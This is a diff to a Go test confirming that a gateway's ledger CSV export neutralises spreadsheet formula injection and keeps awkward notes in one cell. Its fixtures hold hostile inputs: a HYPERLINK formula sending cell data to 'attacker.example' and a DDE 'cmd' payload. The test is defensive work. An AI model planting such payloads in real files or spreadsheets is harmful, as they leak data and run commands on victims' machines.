@@ -12,7 +12,8 @@ import (
 // TestCSVExportsAreNotFormulas: an account whose name a spreadsheet would read as a formula
 // (an operator's sign-up automation names accounts after what customers type) and a credit
 // note that is one reach the ledger and usage CSV exports as text: each such cell begins with an
-// apostrophe, the amounts stay numbers.
+// apostrophe, the amounts stay numbers. Notes with quotes, commas, line breaks and bytes that
+// are not UTF-8 stay one cell of one row when encoding/csv reads the export.
 func TestCSVExportsAreNotFormulas(t *testing.T) {
 	e := startKeysGateway(t)
 	account := `=HYPERLINK("attacker.example?"&A1,"open")`
@@ -21,6 +22,22 @@ func TestCSVExportsAreNotFormulas(t *testing.T) {
 	if r := e.adminMoney(t, "POST", path+"/credit", `{"amount":"5","note":"-2+3+cmd|' /C calc'!A0"}`,
 		map[string]string{"Content-Type": "application/json", "Idempotency-Key": "c1"}); r.status != 200 {
 		t.Fatalf("credit = %d %s", r.status, r.body)
+	}
+	// Quotes, commas, line breaks and bytes that are not UTF-8 (sent raw in the JSON body, which
+	// the admin API reads as U+FFFD) stay inside their cell: each note is one cell of one row.
+	notes := map[string]string{
+		`he said "hi", then left`:    `he said "hi", then left`,
+		"line 1\nline 2, \"quoted\"": "line 1\nline 2, \"quoted\"",
+		"a\rb":                       "a\rb",
+		"\t@SUM(A1)":                 "'\t@SUM(A1)",
+		"raw \xff\xfe bytes":         "raw \ufffd\ufffd bytes",
+	}
+	for note := range notes {
+		quoted := strings.ReplaceAll(string(must(json.Marshal(note))), `\ufffd`, "\xff") // raw bytes, not escapes
+		if r := e.adminMoney(t, "POST", path+"/credit", `{"amount":"1","note":`+quoted+`}`,
+			map[string]string{"Content-Type": "application/json", "Idempotency-Key": "note-" + url.QueryEscape(note)}); r.status != 200 {
+			t.Fatalf("credit with note %q = %d %s", note, r.status, r.body)
+		}
 	}
 	if r := e.createTask(t, secret, "a lighthouse"); r.status != 200 {
 		t.Fatalf("create = %d %s", r.status, r.body)
@@ -31,12 +48,22 @@ func TestCSVExportsAreNotFormulas(t *testing.T) {
 	if err != nil || r.status != 200 || len(rows) < 2 {
 		t.Fatalf("ledger CSV = %d %s (%v)", r.status, r.body, err)
 	}
+	seen := map[string]bool{}
 	for _, row := range rows[1:] {
+		if len(row) != 12 {
+			t.Fatalf("ledger CSV row of %d cells: %q", len(row), row)
+		}
+		seen[row[11]] = true
 		if row[2] != "'"+account {
 			t.Errorf("ledger account cell = %q, want it as text: %q", row[2], "'"+account)
 		}
-		if row[7] == "credit" && (row[11] != "'-2+3+cmd|' /C calc'!A0" || row[8] != "5") {
+		if row[0] == "1" && (row[11] != "'-2+3+cmd|' /C calc'!A0" || row[8] != "5") {
 			t.Errorf("credit row = %q: want the note as text and the amount 5", row)
+		}
+	}
+	for note, cell := range notes {
+		if !seen[cell] {
+			t.Errorf("no ledger CSV row has the note %q as %q; notes: %v", note, cell, seen)
 		}
 	}
 
